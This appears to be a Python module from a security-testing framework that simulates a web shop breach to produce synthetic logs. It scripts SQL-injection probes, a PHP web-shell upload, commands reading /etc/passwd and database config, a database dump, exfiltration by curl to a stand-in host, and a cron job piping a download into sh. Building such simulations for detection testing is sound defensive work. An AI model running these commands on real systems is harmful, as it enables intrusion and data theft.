"""The web shop is exploited: from probing over a web shell to data that leaves."""

from __future__ import annotations

import shlex

from watchfloor.testing.company.attacks.plan import Attack
from watchfloor.testing.company.clock import MINUTE, SECOND
from watchfloor.testing.company.internet import anywhere
from watchfloor.testing.company.world import World

_SHELL = "/media/custom/2026/10/entwurf-88412.php"


def shop_exploited(world: World, *, day: int, time: str, gigabytes: float) -> Attack:
    """A script is put where customers' drawings go, and run; `gigabytes` leave by it."""
    attack = Attack("shop", "The shop is exploited to a web shell, and data leaves", "incident", world)
    random, shop, linux = world.chance("attack:shop"), world.products.shop, world.products.linux["shop"]
    machine = world.server("shop")
    attacker = anywhere(random, "NL", "hosting").address
    agent = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
    at = world.week.at(day, time)
    probes = (
        "/product/1'", "/product/1%20AND%201=1", "/search?q=a%27%29%20UNION%20ALL%20SELECT%20NULL--%20-", "/admin/", "/.git/config",
        "/search?q=a%27%20AND%20SLEEP(5)--", "/customize/", "/customize/upload.php", "/media/custom/", "/customize/upload.php.bak",
    )  # fmt: skip
    with attack.step(at, "The shop is probed for holes", "T1595.002", attacker, machine.name, told=False):
        for number in range(220):
            path = probes[number % len(probes)]
            status = 200 if path.startswith(("/search", "/customize/upload.php")) and not path.endswith("bak") else 404
            shop.request(
                at + number * 1_300_000, attacker, path, status=status, size=random.choice((1_190, 9_410)), agent=agent
            )
    at += 12 * MINUTE
    with attack.step(
        at, "A script is uploaded in place of a drawing and answers", "T1505.003", attacker, machine.name, _SHELL
    ):
        shop.request(at, attacker, "/customize/upload.php", method="POST", size=212, agent=agent)
        world.products.ids.alert(
            at, attacker, machine.address, 443, number=1000071, signature="LOCAL script code in an uploaded file",
            category="Web Application Attack", severity=1,
        )  # fmt: skip
        shop.request(at + 20 * SECOND, attacker, _SHELL, size=31, agent=agent)
    at += MINUTE
    with attack.step(
        at,
        "Commands are run by the script as the web server's account",
        "T1059.004",
        attacker,
        machine.name,
        "www-data",
    ):
        parent = linux.pid()
        for number, command in enumerate(
            (
                "id",
                "uname -a",
                "cat /etc/passwd",
                "ls -la /srv/shop/config",
                "cat /srv/shop/config/database.php",
                "ss -tlnp",
            )
        ):
            moment = at + number * 21 * SECOND
            shop.request(
                moment,
                attacker,
                f"{_SHELL}?c={command.replace(' ', '%20')}",
                size=random.randrange(80, 2_400),
                agent=agent,
            )
            _run(world, moment, command, parent)
    at += 9 * MINUTE
    dump = "mysqldump -h 127.0.0.1 -u shop --single-transaction shop customers orders"
    with attack.step(at, "The customers' data are dumped and packed", "T1005", machine.name, "www-data", told=False):
        shop.request(at, attacker, _SHELL, method="POST", size=64, agent=agent)
        _run(world, at, f"sh -c '{dump} > /tmp/.c/d.sql'", parent)
        _run(world, at + SECOND, dump, parent, exe="/usr/bin/mariadb-dump")
        _run(world, at + 3 * MINUTE, "tar czf /tmp/.c/d.tgz /tmp/.c/d.sql", parent)
    at += 6 * MINUTE
    drop, place = "files.transfer-quelle.example", anywhere(random, "NL", "hosting").address
    with attack.step(at, "They leave by curl to a host never spoken to before", "T1048", machine.name, place, drop):
        shop.request(at, attacker, _SHELL, method="POST", size=64, agent=agent)
        _run(world, at, f"curl -s -T /tmp/.c/d.tgz https://{drop}/u/88412", parent)
        world.products.resolver.query(at, machine.address, drop, millis=61)
        world.products.ids.tls(at + SECOND, machine.address, place, drop)
        sent = int(gigabytes * 1e9)
        world.products.firewall.session(
            at + 11 * MINUTE, machine.address, place, 443, sent=sent, received=sent // 400, seconds=655
        )
    at += 20 * MINUTE
    with attack.step(
        at, "A job of the web server's account keeps the way open", "T1053.003", machine.name, "www-data", told=False
    ):
        _run(world, at, "crontab -", parent, exe="/usr/bin/crontab")
        linux.crontab(at, "www-data")
        for number in range(12):
            moment = at + number * 10 * MINUTE + 7 * SECOND
            linux.cron(moment, "www-data", 33, f"curl -s https://{drop}/k | sh")
            world.products.resolver.query(moment, machine.address, drop, millis=30)
            world.products.firewall.session(moment + SECOND, machine.address, place, 443, sent=1_900, received=3_800)
    return attack


def _run(world: World, at: int, command: str, parent: int, *, exe: str = "") -> None:
    name = shlex.split(command)[0]
    linux = world.products.linux["shop"]
    if not exe:
        shell = f"sh -c {shlex.quote(command)}" if not command.startswith("sh -c") else command
        linux.executed(
            at,
            shell,
            uid=33,
            user="www-data",
            exe="/usr/bin/dash",
            folder="/srv/shop/media/custom/2026/10",
            parent=parent,
        )
    if name != "sh":
        linux.executed(
            at + 4_000,
            command,
            uid=33,
            user="www-data",
            exe=exe or f"/usr/bin/{name}",
            folder="/srv/shop/media/custom/2026/10",
            parent=parent,
        )
